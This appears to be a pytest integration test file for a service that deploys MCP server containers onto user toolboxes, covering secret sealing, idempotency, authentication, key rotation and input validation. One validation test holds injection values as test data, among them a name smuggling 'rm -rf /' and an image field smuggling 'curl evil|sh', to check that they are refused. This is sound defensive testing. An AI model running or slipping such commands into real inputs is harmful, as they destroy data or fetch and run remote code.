"""deploy_mcp_server through the functions-framework app, the real database and a loopback
DTMA stand-in that answers like the real agent."""

from __future__ import annotations

import concurrent.futures
import json
import time
from typing import Any

import psycopg
import pytest
import respx
from flask.testing import FlaskClient

from ops.credentials import issue
from tests.conftest import JWT_SECRET
from tests.factories import MASTER_SECRET, Factory
from tests.helpers import auth, last_command, server_row, settle, spec
from tests.jwt_helpers import mint_hs256

FN = "deploy_mcp_server"






@pytest.fixture
def client(function_client: Any) -> FlaskClient:
    return function_client(FN)


def tools_posts(agent: Any) -> int:
    return sum(1 for r in agent.requests if r.method == "POST" and r.path == "/tools")


def test_deploy_runs_and_answers_the_server(client: FlaskClient, toolbox_agent: Any, factory: Factory,
                                            pg: psycopg.Connection) -> None:
    box, agent = toolbox_agent()
    response = client.post("/", json=spec(box), headers=auth(box.user_id))
    # Answered at once, before the agent is called; the command worker does the rest.
    assert response.status_code == 202, response.json
    server = response.json
    assert server["name"] == "mcp-github" and server["status"] == server["effective_status"] == "deploying"
    host_port = 49152
    assert server["endpoint"] == f"http://127.0.0.1:{host_port}/mcp"
    assert [e["to"] for e in server["progress"]][-2:] == ["pending_deploy", "deploying"]
    sealed = pg.execute("select to_jsonb(c)::text from dtma_commands c").fetchone()[0]
    assert "ghp_supersecret123" not in sealed  # the env values wait in the queue sealed, not in clear
    settle()
    assert server_row(pg, server["id"]) == ("running", None)
    assert last_command(pg, server["id"])["status"] == "done"
    assert pg.execute("select secret_env from dtma_commands").fetchone()[0] is None  # erased once done
    (container,) = [c for c in agent.containers() if c.name == "mcp-github"]
    assert container.image == "mcp/github:latest" and container.state == "running"
    assert container.env_dict() == {"GITHUB_TOKEN": "ghp_supersecret123"}
    assert container.port_bindings == {"8080/tcp": [{"HostPort": str(host_port)}]}
    row = pg.execute("select to_jsonb(i)::text, env_var_names from account_tool_instances i").fetchone()
    assert "ghp_supersecret123" not in row[0] and row[1] == ["GITHUB_TOKEN"]
    assert "ghp_supersecret123" not in json.dumps(server)


def test_camel_case_aliases_of_the_web_app(client: FlaskClient, toolbox_agent: Any) -> None:
    box, _ = toolbox_agent()
    body = {"toolboxId": box.id, "instanceNameOnToolbox": "srv", "dockerImage": "mcp/github:latest",
            "mcpTransport": "sse", "mcpPort": 9000, "mcpEndpoint": "/sse", "environmentVariables": {"A": "b"},
            "mcpCapabilities": ["tools"]}
    response = client.post("/", json=body, headers=auth(box.user_id))
    assert response.status_code == 202, response.json
    assert response.json["transport"] == "sse" and response.json["endpoint"].endswith("/sse")


def test_host_ports_are_allocated_uniquely_and_never_the_agents(client: FlaskClient, toolbox_agent: Any) -> None:
    box, _ = toolbox_agent()
    ports = set()
    for n in range(3):
        response = client.post("/", json=spec(box, name=f"srv-{n}"), headers=auth(box.user_id))
        assert response.status_code == 202
        ports.add(response.json["endpoint"].split(":")[2].split("/")[0])
    assert len(ports) == 3 and "30000" not in ports


def test_a_pull_slower_than_the_budget_answers_202_and_its_outcome_is_recorded_when_the_agent_answers(
        function_client: Any, toolbox_agent: Any, factory: Factory) -> None:
    client = function_client(FN, DTMA_DEPLOY_BUDGET_SECONDS="0.3")
    box, agent = toolbox_agent()
    response = client.post("/", json=spec(box, image="standin/slow-1:latest"), headers=auth(box.user_id))
    assert response.status_code == 202, response.json
    assert response.json["status"] == "deploying"
    instance_id = response.json["id"]
    # No heartbeat: the deploy's command hears the agent's 201 and records it.
    deadline = time.monotonic() + 5
    while factory.status_of(instance_id) != "running":
        assert time.monotonic() < deadline, factory.events(instance_id)
        time.sleep(0.05)
    assert factory.events(instance_id)[-1][:3] == ("deploying", "running", "api")
    assert agent.heartbeats_sent == 0


def test_dtma_down_fails_the_deploy_with_an_actionable_message(client: FlaskClient, toolbox_agent: Any,
                                                               factory: Factory) -> None:
    box, agent = toolbox_agent()
    agent.refuse_connections()
    response = client.post("/", json=spec(box), headers=auth(box.user_id))
    assert response.status_code == 202
    settle()
    status, error = server_row(factory.conn, response.json["id"])
    assert status == "error"
    assert error.startswith(f"the deploy of mcp-github never reached the toolbox: toolbox at 127.0.0.1:{agent.port} "
                            "is unreachable")
    command = last_command(factory.conn, response.json["id"])
    assert command["status"] == "failed" and command["outcome"]["code"] == "toolbox_unreachable"


@pytest.mark.parametrize(("status", "body", "http", "code"), [
    (409, {"success": False, "error": "Instance with name 'mcp-github' already exists."}, 409, "conflict"),
    (500, {"success": False, "error": "disk full"}, 502, "toolbox_failed"),
    (403, {"error": "Forbidden: Invalid token"}, 502, "toolbox_key_rejected"),
])
def test_dtma_refusals(client: FlaskClient, toolbox_agent: Any, factory: Factory, status: int,
                       body: dict[str, Any], http: int, code: str) -> None:
    box, agent = toolbox_agent()
    agent.fail_next("deploy", status, body)
    response = client.post("/", json=spec(box), headers=auth(box.user_id))
    assert response.status_code == 202
    settle()
    command = last_command(factory.conn, response.json["id"])
    assert (command["outcome"]["http_status"], command["outcome"]["code"]) == (http, code)
    assert server_row(factory.conn, response.json["id"]) == ("error", command["outcome"]["message"])


def test_a_container_that_exits_at_once_is_a_failed_deploy(client: FlaskClient, toolbox_agent: Any,
                                                            pg: psycopg.Connection) -> None:
    box, _ = toolbox_agent()
    response = client.post("/", json=spec(box, image="standin/exit-1:latest"), headers=auth(box.user_id))
    assert response.status_code == 202
    settle()
    assert last_command(pg, response.json["id"])["outcome"]["code"] == "container_exited"
    status, error = server_row(pg, response.json["id"])
    assert status == "error" and "with code 1" in error


def test_image_pull_denied(client: FlaskClient, toolbox_agent: Any, pg: psycopg.Connection) -> None:
    box, _ = toolbox_agent()
    response = client.post("/", json=spec(box, image="standin/pull-denied:latest"), headers=auth(box.user_id))
    assert response.status_code == 202
    settle()
    assert last_command(pg, response.json["id"])["outcome"]["code"] == "image_pull_failed"


def test_twenty_concurrent_deploys_with_one_idempotency_key(client: FlaskClient, toolbox_agent: Any,
                                                           pg: psycopg.Connection) -> None:
    box, agent = toolbox_agent(pull_delay=0.2)
    headers = {**auth(box.user_id), "Idempotency-Key": "deploy-once"}

    def send(_: int) -> Any:
        response = client.post("/", json=spec(box), headers=headers)
        return response.status_code, response.json

    with concurrent.futures.ThreadPoolExecutor(20) as pool:
        results = list(pool.map(send, range(20)))
    settle()
    assert {status for status, _ in results} == {202}
    assert len({body["id"] for _, body in results}) == 1
    assert tools_posts(agent) == 1
    assert pg.execute("select count(*) from account_tool_instances").fetchone()[0] == 1


def test_same_key_with_a_different_body_is_422(client: FlaskClient, toolbox_agent: Any) -> None:
    box, _ = toolbox_agent()
    headers = {**auth(box.user_id), "Idempotency-Key": "k1"}
    assert client.post("/", json=spec(box), headers=headers).status_code == 202
    again = client.post("/", json=spec(box, name="other"), headers=headers)
    assert again.status_code == 422 and "different request" in again.json["error"]["message"]
    replay = client.post("/", json=spec(box), headers=headers)
    assert replay.status_code == 202 and replay.headers["Idempotent-Replayed"] == "true"


def test_two_concurrent_deploys_of_one_name(client: FlaskClient, toolbox_agent: Any) -> None:
    box, _ = toolbox_agent(pull_delay=0.1)
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        statuses = sorted(pool.map(lambda _: client.post("/", json=spec(box), headers=auth(box.user_id)).status_code,
                                   range(2)))
    assert statuses == [202, 409]


@pytest.mark.parametrize(("status", "message"), [
    ("provisioning", "is provisioning; try again when it is active"),
    ("awaiting_heartbeat", "is starting up; try again when it is active"),
    ("unresponsive", "is unresponsive"),
])
def test_toolbox_must_be_active(client: FlaskClient, factory: Factory, status: str, message: str,
                                pg: psycopg.Connection) -> None:
    box = factory.toolbox(status=status)
    response = client.post("/", json=spec(box), headers=auth(box.user_id))
    assert response.status_code == 409 and message in response.json["error"]["message"]
    assert pg.execute("select count(*) from account_tool_instances").fetchone()[0] == 0


def test_private_toolbox_address_is_refused_unless_allowed(function_client: Any, factory: Factory,
                                                           pg: psycopg.Connection) -> None:
    client = function_client(FN, ALLOW_PRIVATE_TOOLBOX_IPS="false")
    for ip in ("127.0.0.1", "10.1.2.3", "169.254.169.254", "192.168.0.5"):
        box = factory.toolbox(ip=ip)
        response = client.post("/", json=spec(box), headers=auth(box.user_id))
        assert response.status_code == 409, ip
        assert "non-public address" in response.json["error"]["message"]
    assert pg.execute("select count(*) from account_tool_instances").fetchone()[0] == 0


def test_another_users_toolbox_is_not_found(client: FlaskClient, toolbox_agent: Any, factory: Factory) -> None:
    box, agent = toolbox_agent()
    stranger = factory.user()
    response = client.post("/", json=spec(box), headers=auth(stranger))
    missing = client.post("/", json=spec(box, toolbox_id="00000000-0000-4000-8000-000000000009"),
                          headers=auth(stranger))
    assert response.status_code == missing.status_code == 404
    # Same code and message; the details only echo the id the caller sent.
    assert response.json["error"]["message"] == missing.json["error"]["message"] == "toolbox not found"
    assert response.json["error"]["details"] == {"toolbox_id": box.id}
    assert tools_posts(agent) == 0


@pytest.mark.parametrize(("overrides", "status", "field"), [
    ({"name": "bad name;rm -rf /"}, 400, "name"),
    ({"name": "../../etc"}, 400, "name"),
    ({"name": "x" * 64}, 400, "name"),
    ({"image": "mcp/github:latest; curl evil|sh"}, 400, "image"),
    ({"image": "UPPER/case"}, 400, "image"),
    ({"env": {"BAD-NAME": "x"}}, 400, "env"),
    ({"env": {"OK": "nul\x00byte"}}, 400, "env"),
    ({"host_port": 30000}, 400, "host_port"),
    ({"host_port": 80}, 400, "host_port"),
    ({"container_port": 0}, 400, "container_port"),
    ({"transport": "websocket"}, 400, "transport"),
    ({"endpoint_path": "mcp"}, 400, "endpoint_path"),
    ({"endpoint_path": "/a/../b"}, 400, "endpoint_path"),
    ({"toolbox_id": "not-a-uuid"}, 400, "toolbox_id"),
    ({"unexpected": 1, "also": 2}, 422, "unexpected"),
])
def test_bad_input_is_refused_before_anything_is_recorded(client: FlaskClient, toolbox_agent: Any,
                                                          pg: psycopg.Connection, overrides: dict[str, Any],
                                                          status: int, field: str) -> None:
    box, agent = toolbox_agent()
    response = client.post("/", json=spec(box, **overrides), headers=auth(box.user_id))
    assert response.status_code == status, response.json
    assert field in response.json["error"]["message"]
    assert pg.execute("select count(*) from account_tool_instances").fetchone()[0] == 0
    assert tools_posts(agent) == 0


def test_unauthenticated_and_bad_tokens(client: FlaskClient, toolbox_agent: Any) -> None:
    box, agent = toolbox_agent()
    for headers, reason in [({}, "missing Authorization header"),
                            ({"Authorization": f"Bearer {mint_hs256(JWT_SECRET, sub=box.user_id, exp_in=-120)}"},
                             "token has expired"),
                            ({"Authorization": f"Bearer {mint_hs256('x' * 40, sub=box.user_id)}"},
                             "token signature is invalid")]:
        response = client.post("/", json=spec(box), headers=headers)
        assert response.status_code == 401 and reason in response.json["error"]["message"]
    assert tools_posts(agent) == 0


def test_a_toolboxs_key_opens_only_its_own_dtma(client: FlaskClient, toolbox_agent: Any,
                                                pg: psycopg.Connection) -> None:
    box_x, agent_x = toolbox_agent()
    box_y, _ = toolbox_agent(box_x.user_id)
    # Point Y's row at X's agent: the backend sends Y's key, which X's agent must refuse.
    pg.execute("update account_tool_environments set dtma_port = %s where id = %s", (agent_x.port, box_y.id))
    response = client.post("/", json=spec(box_y), headers=auth(box_y.user_id))
    assert response.status_code == 202
    settle()
    assert last_command(pg, response.json["id"])["outcome"]["code"] == "toolbox_key_rejected"
    assert [c.name for c in agent_x.containers() if c.name == "mcp-github"] == []


def test_rotation_retires_the_old_key_in_both_directions(function_client: Any, toolbox_agent: Any,
                                                         database_url: str, pg: psycopg.Connection) -> None:
    client = function_client(FN)
    box, agent = toolbox_agent()
    new_token, version = issue(database_url, box.id, rotate=True, key_mode="derived",
                               master_secret=MASTER_SECRET, legacy_key=None)
    assert version == 2 and new_token != box.token
    deploy = client.post("/", json=spec(box), headers=auth(box.user_id))
    settle()
    assert last_command(pg, deploy.json["id"])["outcome"]["code"] == "toolbox_key_rejected"
    heartbeat = function_client("dtma_heartbeat_ingest")
    old = heartbeat.post("/heartbeat", json=agent.heartbeat_payload(), headers={"Authorization": f"Bearer {box.token}"})
    new = heartbeat.post("/heartbeat", json=agent.heartbeat_payload(), headers={"Authorization": f"Bearer {new_token}"})
    assert (old.status_code, new.status_code) == (401, 204)


def test_no_request_goes_anywhere_but_the_toolboxs_dtma(client: FlaskClient, toolbox_agent: Any,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    box, agent = toolbox_agent()
    # A proxy in the environment must not divert the backend key either.
    monkeypatch.setenv("HTTP_PROXY", "http://127.0.0.1:9")
    monkeypatch.setenv("ALL_PROXY", "http://127.0.0.1:9")
    with respx.mock(assert_all_mocked=True, assert_all_called=False) as router:
        dtma = router.route(host="127.0.0.1", port=agent.port).pass_through()
        response = client.post("/", json=spec(box), headers=auth(box.user_id))
        settle()  # the command calls the agent from the worker pool, still inside the mock
    assert response.status_code == 202, response.json
    # respx records a pass-through call on its route; the agent's own log is the ground truth.
    assert {str(c.request.url) for c in dtma.calls} == {f"http://127.0.0.1:{agent.port}/tools"}
    assert [(r.method, r.path) for r in agent.requests] == [("POST", "/tools")]


def test_no_localhost_8000_anywhere_in_the_project() -> None:
    from tests.conftest import ROOT

    needle = "localhost:" + "8000"
    offenders = [str(p.relative_to(ROOT)) for p in ROOT.rglob("*")
                 if p.is_file() and not {".git", ".venv", "build", "node_modules"} & set(p.parts)
                 and p.suffix in {".py", ".sql", ".sh", ".md", ".toml", ".json", ".js", ".txt", ""}
                 and needle in p.read_text(errors="ignore")]
    assert offenders == []
